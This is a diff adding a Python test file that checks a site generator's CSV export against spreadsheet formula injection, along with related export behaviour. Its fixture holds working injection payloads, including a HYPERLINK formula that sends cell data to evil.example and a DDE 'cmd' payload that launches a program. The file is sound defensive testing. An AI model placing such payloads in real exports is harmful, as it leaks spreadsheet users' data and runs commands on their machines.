@@ -1,0 +1,90 @@
+"""What rendering publishes from hostile text: CSV cells that no spreadsheet runs, links that no way of
+writing escapes the checks, a conclusion that sanitizing never silently shortens, a search index of
+bounded size, and a PDF adapter that fails with a message of ours, never WeasyPrint's traceback."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from decimal import Decimal
+from pathlib import Path
+
+import yaml
+
+from generator.build import build_site
+from generator.config import SiteConfig
+from generator.reading import read_document
+from generator.render import data as render_data
+
+from .conftest import FORMS, assert_whole
+
+FORMULAS = {
+    "title": '=HYPERLINK("http://evil.example/?"&A1,"点此")',
+    "implementer": "+cmd|' /C calc'!A0",
+    "contact": "-2+3",
+    "department.name": "@SUM(1+1)",
+    "department.code": "\t=1+1",
+    "indicators.0.name": "＝1+1",
+    "indicators.0.reason": "  =1+1",
+    "indicators.1.note": "\r=1+1",
+    "indicators.2.reason": "－2+3",
+}
+"""Text fields whose value a spreadsheet would run as a formula (OWASP's triggers, full-width forms, white
+space before them)."""
+
+
+def _rewrite(path: Path, change: dict[str, str] | None = None, body: str | None = None) -> None:
+    """A form file with some fields changed (dotted keys, row numbers from 0) and/or another 自评结论."""
+    document = read_document(path)
+    data = document.data
+    for key, value in (change or {}).items():
+        *parents, last = key.split(".")
+        target = data
+        for part in parents:
+            target = target[int(part)] if part.isdigit() else target[part]
+        target[int(last) if last.isdigit() else last] = value
+    front = yaml.safe_dump(data, allow_unicode=True, sort_keys=False)
+    path.write_text(f"---\n{front}---\n{document.body if body is None else body}", encoding="utf-8")
+
+
+def _csv_rows(path: Path) -> list[dict[str, str]]:
+    text = path.read_text(encoding="utf-8-sig")
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+# --- CSV made for Excel -------------------------------------------------------------------------------
+
+
+def test_no_csv_cell_runs_as_a_formula_and_figures_stay_numbers(site, decoy):
+    _rewrite(site.form(), FORMULAS)
+    build_site([site.content], SiteConfig(), site.out)
+    assert_whole(site.out)
+    forms = _csv_rows(site.out / "data" / "forms.csv")
+    indicators = _csv_rows(site.out / "data" / "indicators.csv")
+    starts = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
+    for row in forms + indicators:
+        for column, cell in row.items():
+            if column in render_data.NUMBER_COLUMNS:
+                Decimal(cell)  # a number, as written: Excel reads it as one
+                assert not cell.startswith("'"), (column, cell)
+            else:
+                assert not cell.lstrip().startswith(starts), (column, cell)
+    mine = next(row for row in forms if row["slug"] == FORMS[0])
+    assert mine["项目名称"] == "'" + FORMULAS["title"]  # the text itself is kept, after the '
+    assert mine["实施单位"] == "'" + FORMULAS["implementer"]
+    assert mine["主管部门代码"] == "'=1+1"  # white space around a value is not kept
+    assert (mine["全年预算数"], mine["执行率"], mine["总分"]) == ("845371.59", "70.93", "97.09")
+    first = next(row for row in indicators if row["slug"] == FORMS[0] and row["序号"] == "1")
+    assert first["三级指标"] == "'＝1+1" and first["未完成原因分析"] == "'=1+1"
+    feed = json.loads((site.out / "data" / "forms.json").read_text(encoding="utf-8"))
+    record = next(form for form in feed["forms"] if form["slug"] == FORMS[0])
+    assert record["title"] == FORMULAS["title"]  # JSON is not for spreadsheets: unchanged
+
+
+def test_text_cells_and_number_cells():
+    assert render_data.text_cell("-12.5") == "'-12.5"  # in a text column, a formula to Excel
+    assert render_data.text_cell("≥95%") == "≥95%" and render_data.text_cell("平塘县") == "平塘县"
+    assert render_data.text_cell("＠A1") == "'＠A1" and render_data.text_cell("\u3000=1") == "'\u3000=1"
+    assert {"年初预算数", "全年预算数", "全年执行数", "执行率", "预算执行得分", "总分", "分值", "得分",
+            "年度", "序号"} == render_data.NUMBER_COLUMNS
